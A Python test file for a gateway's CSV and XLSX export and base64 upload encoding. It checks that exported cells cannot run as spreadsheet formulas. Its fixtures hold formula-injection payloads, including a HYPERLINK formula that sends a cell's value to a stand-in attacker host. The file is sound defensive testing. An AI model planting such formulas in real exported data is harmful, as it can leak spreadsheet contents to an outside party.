"""Transfers at the gateway: export cells never run as formulas (XLSX cells are strings); uploads encoded in chunks."""
import csv
import io
import zipfile

from openpyxl import load_workbook

from gateway.handlers.transfers import _csv, _xlsx

HEADERS = ["NIK", "Nama", "No HP"]
HOSTILE = [
    ["3507255203900001", '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+6281234567890"],
    ["3507255203900002", "+1+1", "-2"],
    ["3507255203900003", "@SUM(A1:A9)", "\t=1+1"],
    ["3507255203900004", "\r=1+1", "Siti Aminah"],
]


def test_csv_export_neutralises_every_cell_that_could_start_a_formula():
    body = _csv(HEADERS, HOSTILE).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == HEADERS
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert rows[1][1] == "'" + HOSTILE[0][1]  # kept, readable, inert
    assert rows[1][0] == "3507255203900001" and rows[4][2] == "Siti Aminah"  # ordinary text untouched


def test_xlsx_export_holds_no_formula_and_only_string_cells():
    body = _xlsx(HEADERS, HOSTILE).get_data()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert sheet["A2"].value == "3507255203900001"  # a NIK stays text, all sixteen digits


def test_an_upload_is_encoded_for_the_registry_in_chunks_that_join_into_the_whole():
    import base64

    from gateway.handlers.transfers import _BASE64_CHUNK, _base64

    content = bytes(range(256)) * (_BASE64_CHUNK // 256 * 2 + 7)
    assert _base64(content) == base64.b64encode(content).decode("ascii")
